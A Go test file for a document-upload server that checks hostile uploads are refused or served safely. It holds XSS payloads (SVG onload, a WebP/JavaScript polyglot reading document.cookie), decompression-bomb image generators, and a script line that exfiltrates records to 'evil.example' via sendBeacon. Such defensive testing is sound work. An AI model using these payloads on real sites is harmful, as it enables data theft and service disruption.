package files_test

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"net/http"
	"strings"
	"testing"

	"github.com/pocketbase/pocketbase/core"
	"github.com/pocketbase/pocketbase/tests"
	"github.com/pocketbase/pocketbase/tools/filesystem"

	"dukcapil-daring/server/internal/collections"
	"dukcapil-daring/server/internal/files"
	"dukcapil-daring/server/internal/servertest"
	"dukcapil-daring/server/internal/testapp"
)

// pngChunk is one PNG chunk with its CRC.
func pngChunk(kind string, data []byte) []byte {
	var b bytes.Buffer
	_ = binary.Write(&b, binary.BigEndian, uint32(len(data)))
	b.WriteString(kind)
	b.Write(data)
	_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(kind), data...)))
	return b.Bytes()
}

// pngBomb is a small, valid-looking PNG whose header declares a
// width × height image (decoding it would allocate 4·w·h bytes).
func pngBomb(width, height uint32) []byte {
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], width)
	binary.BigEndian.PutUint32(ihdr[4:], height)
	ihdr[8], ihdr[9] = 8, 6 // 8-bit RGBA
	out := []byte{0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}
	out = append(out, pngChunk("IHDR", ihdr)...)
	// a deflate stream of zeros: what a bomb holds, kilobytes for gigabytes
	out = append(out, pngChunk("IDAT", []byte{0x78, 0xDA, 0xED, 0xC1, 0x01, 0x0D, 0x00, 0x00, 0x00, 0xC2, 0xA0, 0xF7, 0x4F, 0x6D, 0x0E, 0x37, 0xA0, 0x00, 0x00})...)
	return append(out, pngChunk("IEND", nil)...)
}

// jpegDeclaring returns a real JPEG whose frame header is rewritten to
// declare width × height.
func jpegDeclaring(t *testing.T, width, height uint16) []byte {
	jpg := bytes.Clone(sampleJPEG(t))
	i := bytes.Index(jpg, []byte{0xFF, 0xC0})
	if i < 0 {
		t.Fatal("no SOF0 marker in the sample JPEG")
	}
	binary.BigEndian.PutUint16(jpg[i+5:], height)
	binary.BigEndian.PutUint16(jpg[i+7:], width)
	return jpg
}

var (
	sampleSVG = []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>fetch('/api/collections/users/records')</script></svg>`)
	sampleJS  = []byte("fetch('/api/collections/documents/records').then(r=>r.json()).then(d=>navigator.sendBeacon('//evil.example',JSON.stringify(d)))")
	// a polyglot: a WebP header a sniffer accepts, then a script
	samplePolyglot = append(bytes.Clone(sampleWebP), []byte("\n*/alert(document.cookie)//")...)
)

// TestHostileUploads tries HTML, SVG, JavaScript, a WebP/JavaScript
// polyglot named x.js and decompression bombs: each is refused, or stored
// only as the image type its content is.
func TestHostileUploads(t *testing.T) {
	refused := func(name, file string, content []byte, code string) tests.ApiScenario {
		s := upload(t, testapp.ResidentA, testapp.ApplicationA, file, content, nil)
		s.Name = name
		s.ExpectedStatus = http.StatusBadRequest
		s.ExpectedContent = []string{`"data":{"file":{"code":"` + code + `"`}
		s.AfterTestFunc = stored(0)
		return s
	}
	scenarios := []tests.ApiScenario{
		refused("HTML", "x.html", sampleHTML, files.CodeFileType),
		refused("SVG with a script", "x.svg", sampleSVG, files.CodeFileType),
		refused("JavaScript", "x.js", sampleJS, files.CodeFileType),
		refused("a PNG bomb declaring 30000 × 30000 pixels", "bomb.png", pngBomb(30000, 30000), files.CodeImageTooLarge),
		refused("a JPEG declaring 65535 × 65535 pixels", "big.jpg", jpegDeclaring(t, 65535, 65535), files.CodeImageTooLarge),
	}

	polyglot := upload(t, testapp.ResidentA, testapp.ApplicationA, "x.js", samplePolyglot, map[string]string{"id": "polyglotdoc0001"})
	polyglot.Name = "a WebP/JavaScript polyglot named x.js is stored as .webp"
	polyglot.ExpectedStatus = http.StatusOK
	polyglot.ExpectedContent = []string{`.webp"`}
	polyglot.NotExpectedContent = []string{`.js"`}
	polyglot.AfterTestFunc = func(t testing.TB, app *tests.TestApp, _ *http.Response) {
		r, err := app.FindRecordById(collections.Documents, "polyglotdoc0001")
		if err != nil {
			t.Fatal(err)
		}
		if name := r.GetString("file"); !strings.HasSuffix(name, ".webp") {
			t.Errorf("stored as %q, want a .webp name", name)
		}
	}

	big := pngBomb(7072, 7072) // 50.01 MP
	atBound := pngBomb(5000, 10000)
	scenarios = append(scenarios, polyglot,
		refused("just over 50 MP", "big.png", big, files.CodeImageTooLarge))
	ok := upload(t, testapp.ResidentA, testapp.ApplicationA, "ok.png", atBound, nil)
	ok.Name = "exactly 50 MP is accepted"
	ok.ExpectedStatus = http.StatusOK
	ok.ExpectedContent = []string{`.png"`}
	ok.AfterTestFunc = stored(1)
	scenarios = append(scenarios, ok)

	for _, s := range scenarios {
		s.TestAppFactory = servertest.Factory
		s.Test(t)
	}
}

// saveDocument stores a document of ApplicationA with a file of the given
// stored name, as a file kept from before the extension rule would be.
func saveDocument(id, storedName string, content []byte) func(testing.TB, *tests.TestApp, *core.ServeEvent) {
	return func(t testing.TB, app *tests.TestApp, _ *core.ServeEvent) {
		c, err := app.FindCollectionByNameOrId(collections.Documents)
		if err != nil {
			t.Fatal(err)
		}
		f, err := filesystem.NewFileFromBytes(content, storedName)
		if err != nil {
			t.Fatal(err)
		}
		f.Name = storedName
		r := core.NewRecord(c)
		r.Id = id
		r.Load(map[string]any{
			"application": testapp.ApplicationA, "owner": testapp.ResidentA, "kind": "ktp-el",
			"sha256": hexSHA256(content), "size": len(content), "file": f,
		})
		if err := app.Save(r); err != nil {
			t.Fatal(err)
		}
	}
}

// TestDocumentsServedSafely: a document is served with nosniff and a
// Content-Disposition, as the type of its extension; a file with another
// extension (stored before the rule) only as an octet-stream attachment.
func TestDocumentsServedSafely(t *testing.T) {
	token := testapp.FileToken(t, testapp.ResidentA)
	scenarios := []tests.ApiScenario{
		{
			Name:           "a polyglot stored as .webp is served as an inline image, nosniff",
			Method:         http.MethodGet,
			URL:            "/api/files/documents/polyglotdoc0002/x_polyglot.webp?token=" + token,
			BeforeTestFunc: saveDocument("polyglotdoc0002", "x_polyglot.webp", samplePolyglot),
			ExpectedStatus: http.StatusOK,
			AfterTestFunc: headers(map[string]string{
				"Content-Type":           "image/webp",
				"X-Content-Type-Options": "nosniff",
				"Content-Disposition":    `inline; filename="x_polyglot.webp"`,
			}),
			ExpectedContent: []string{"alert(document.cookie)"},
		},
		{
			Name:           "?download=1 is an attachment",
			Method:         http.MethodGet,
			URL:            "/api/files/documents/polyglotdoc0002/x_polyglot.webp?download=1&token=" + token,
			BeforeTestFunc: saveDocument("polyglotdoc0002", "x_polyglot.webp", samplePolyglot),
			ExpectedStatus: http.StatusOK,
			AfterTestFunc: headers(map[string]string{
				"Content-Disposition": `attachment; filename="x_polyglot.webp"`,
			}),
			ExpectedContent: []string{"alert"},
		},
		{
			Name:           "a .js file kept from before is never served as script",
			Method:         http.MethodGet,
			URL:            "/api/files/documents/legacyjsdoc0001/x_legacy.js?token=" + token,
			BeforeTestFunc: saveDocument("legacyjsdoc0001", "x_legacy.js", samplePolyglot),
			ExpectedStatus: http.StatusOK,
			AfterTestFunc: headers(map[string]string{
				"Content-Type":           "application/octet-stream",
				"X-Content-Type-Options": "nosniff",
				"Content-Disposition":    `attachment; filename="x_legacy.js"`,
			}),
			ExpectedContent: []string{"alert"},
		},
	}
	for _, s := range scenarios {
		s.TestAppFactory = servertest.Factory
		s.Test(t)
	}
}

func TestStoredName(t *testing.T) {
	for in, want := range map[[2]string]string{
		{"x_abc.js", files.TypeWebP}:     "x_abc.webp",
		{"ktp_abc.JPG", files.TypeJPEG}:  "ktp_abc.jpg",
		{"noext_abc", files.TypePDF}:     "noext_abc.pdf",
		{"a.b.html", files.TypePNG}:      "a.b.png",
		{"unknown_abc.bin", "text/html"}: "unknown_abc.bin",
	} {
		if got := files.StoredName(in[0], in[1]); got != want {
			t.Errorf("StoredName(%q, %q) = %q, want %q", in[0], in[1], got, want)
		}
	}
}

// headers checks response headers.
func headers(want map[string]string) func(testing.TB, *tests.TestApp, *http.Response) {
	return func(t testing.TB, _ *tests.TestApp, res *http.Response) {
		for k, v := range want {
			if got := res.Header.Get(k); got != v {
				t.Errorf("%s: %q, want %q", k, got, v)
			}
		}
	}
}
